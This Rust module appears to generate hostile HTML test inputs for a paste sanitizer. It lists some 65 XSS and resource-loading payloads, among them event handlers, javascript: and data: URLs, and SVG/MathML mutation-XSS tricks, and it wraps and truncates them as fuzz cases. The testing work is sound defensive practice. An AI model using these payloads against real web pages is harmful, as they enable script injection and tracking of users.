//! HTML that a hostile page could have put on the clipboard: script in every place where a browser
//! has looked for some, addresses that would be loaded, forms, redirects, SVG, MathML, styles, and
//! markup that changes when it is parsed twice.

use crate::rng::Rng;

/// Hostile HTML. `$` stands for the address of a server that must not be asked for anything; script
/// sets `window.hacked`.
const PIECES: &[&str] = &[
    "<script>hacked=1</script>",
    "<script src=$/a.js></script>",
    "<ScRiPt type=module>import('$/m.js')</sCrIpT>",
    "<img src=x onerror=hacked=1>",
    "<img src=$/pixel.gif width=1 height=1>",
    "<img srcset='$/a.png 1x, $/b.png 2x' alt=a>",
    "<picture><source srcset=$/c.png><img src=$/d.png></picture>",
    "<body onload=hacked=1>",
    "<p onclick=hacked=1 onmouseover='hacked=1' style='behavior:url($/x.htc)'>a</p>",
    "<a href='javascript:hacked=1'>a</a>",
    "<a href='java&#10;script:hacked=1'>a</a>",
    "<a href='&#x6a;avascript&colon;hacked=1'>a</a>",
    "<a href='data:text/html,<script>hacked=1</script>'>a</a>",
    "<a href='vbscript:hacked' ping=$/ping>a</a>",
    "<a href=' javascript:hacked=1' target=_top>a</a>",
    "<iframe src=$/frame></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=$/o></object><embed src=$/e>",
    "<form action=$/f><input name=password autofocus onfocus=hacked=1><button>Go</button></form>",
    "<input type=image src=$/i.png><isindex action=$/x>",
    "<button formaction=javascript:hacked=1>a</button>",
    "<meta http-equiv=refresh content='0;url=$/r'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<base href=$/>",
    "<link rel=stylesheet href=$/s.css><link rel=prefetch href=$/p>",
    "<style>@import url($/i.css); * { background: url($/bg.png) }</style>",
    "<style>@font-face { font-family: x; src: url($/f.woff) } p { font-family: x }</style>",
    "<div style='background-image:url($/b.png);position:fixed;inset:0'>a</div>",
    "<div style='width:expression(hacked=1);color:red'>a</div>",
    "<table background=$/t.png><tr><td background=$/u.png>a</td></tr></table>",
    "<svg onload=hacked=1><script>hacked=1</script></svg>",
    "<svg><animate onbegin=hacked=1 attributeName=x dur=1s></svg>",
    "<svg><image href=$/s.png /><use href='$/s.svg#a' /></svg>",
    "<svg><a xlink:href='javascript:hacked=1'><text y=20>a</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=hacked=1></foreignObject></svg>",
    "<svg><style><img src=x onerror=hacked=1></style></svg>",
    "<svg><set href='#a' attributeName=href to='javascript:hacked=1' /></svg>",
    "<math href='javascript:hacked=1'><mi>x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 \
     onerror=hacked=1&gt;'></table></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hacked=1></annotation-xml>\
     </math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked=1>",
    "<noscript><p title='</noscript><img src=x onerror=hacked=1>'></noscript>",
    "<template><script>hacked=1</script><img src=$/t.png></template>",
    "<textarea><img src=x onerror=hacked=1></textarea>",
    "<title><img src=x onerror=hacked=1></title>",
    "<xmp><img src=x onerror=hacked=1></xmp><plaintext>",
    "<!--><img src=x onerror=hacked=1>-->",
    "<!--[if IE]><script>hacked=1</script><![endif]-->",
    "<![CDATA[<img src=x onerror=hacked=1>]]>",
    "<audio src=$/a.mp3 autoplay onerror=hacked=1></audio><video poster=$/v.png></video>",
    "<details open ontoggle=hacked=1><summary>a</summary></details>",
    "<marquee onstart=hacked=1>a</marquee>",
    "<img src='cid:x' onload=hacked=1 alt='\"><img src=x onerror=hacked=1>'>",
    "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"hacked=1\"/>'>",
    "<img alt='`><img src=x onerror=hacked=1>' src=\"$/`.png\">",
    "<b id=getElementById name=body contenteditable=false>a</b><form id=document></form>",
    "<p class=rich id=message tabindex=0 accesskey=x>a</p>",
    "<portal src=$/p></portal><frameset><frame src=$/f></frameset>",
    "<dialog open>a</dialog><span is=x-y popover>a</span>",
    "<custom-element onx=hacked=1><slot name=x>a</slot></custom-element>",
    "<p>a\0b<sc\0ript>hacked=1</script></p>",
    "<a href=\"$/\" onclick=\"hacked=1\"\"><b>a</a>",
    "<<script>alert<b>(1)//<</script>",
    "<img/src=x/onerror=hacked=1>",
    "<b\u{c}onclick=hacked=1>a</b>",
    "<p lang=ko style=\"mso-list:l0 level1\" onfocus=hacked=1>가</p>",
];

/// What may be around it.
const AROUND: &[(&str, &str)] = &[
    ("", ""),
    ("<p>before ", " after</p>"),
    ("<div><blockquote>", "</blockquote></div>"),
    ("<table><tr><td>", "</td></tr></table>"),
    ("<ul><li>", "</li></ul>"),
    ("<b><i>", "</b></i>"),
    ("<pre>", "</pre>"),
    ("<a href='https://example.org/'>", "</a>"),
    ("<!--StartFragment-->", "<!--EndFragment-->"),
    ("<svg>", "</svg>"),
    ("<math><mtext>", "</mtext></math>"),
    ("<select><option>", "</select>"),
    (
        "<html><head><style>p{color:red}</style></head><body>",
        "</body></html>",
    ),
];

/// `count` texts of hostile HTML. The first ones have each piece alone; the same seed makes the
/// same texts. `server` is the address that must not be asked for anything.
#[must_use]
pub fn hostile_paste(seed: u64, count: usize, server: &str) -> Vec<String> {
    let rng = &mut Rng::new(seed);
    let one = |rng: &mut Rng, at: usize| {
        let mut html = String::new();
        let pieces = if at < PIECES.len() {
            1
        } else {
            1 + rng.below(4)
        };
        for _ in 0..pieces {
            let piece = if at < PIECES.len() {
                PIECES[at]
            } else {
                rng.pick(PIECES)
            };
            let (before, after) = if at < PIECES.len() {
                ("", "")
            } else {
                *rng.pick(AROUND)
            };
            html.push_str(&format!("{before}{piece}{after}"));
        }
        if at >= PIECES.len() && rng.once_in(4) {
            // Cut off somewhere.
            let mut end = rng.below(html.len());
            while !html.is_char_boundary(end) {
                end -= 1;
            }
            html.truncate(end);
        }
        format!("<p>word{at}</p>{}", html.replace('$', server))
    };
    (0..count).map(|at| one(rng, at)).collect()
}
